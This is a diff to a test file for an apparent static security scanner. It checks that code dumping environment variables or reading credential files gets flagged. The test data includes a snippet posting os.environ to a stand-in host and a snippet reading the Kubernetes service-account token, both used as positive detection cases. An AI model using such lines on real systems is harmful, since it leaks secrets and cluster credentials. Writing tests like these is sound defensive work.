@@ -104,6 +104,7 @@ def test_environment_dump_versus_copy_for_subprocess() -> None:
     assert "PV-SEC-ENVDUMP" in ids(run(R, bad))
     also_bad = py("import os, requests\nrequests.post('https://x.example/c', json=os.environ.copy())\n")
     assert "PV-SEC-ENVDUMP" in ids(run(R, also_bad))
+    assert run(R, py("import os\nVAGRANT = 'vagrant' in str(os.environ)\n")) == []
     benign = py(
         "import os, subprocess\n"
         "env = os.environ.copy()\n"
@@ -151,3 +152,9 @@ def test_keylogger_and_proc_environ() -> None:
     assert "PV-SEC-ENVDUMP" in ids(run(R, environ))
     benign = py("def keyboard_layout():\n    return 'qwerty'\nPROC = '/proc/%d/environ'\n")
     assert run(R, benign) == []
+
+
+def test_kubernetes_service_account_token_is_a_credential_store() -> None:
+    reader = py("TOKEN = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n")
+    assert "PV-SEC-CREDFILE" in ids(run(R, reader))
+    assert run(R, py("NAMESPACE_HELP = 'the namespace of the service account'\n")) == []
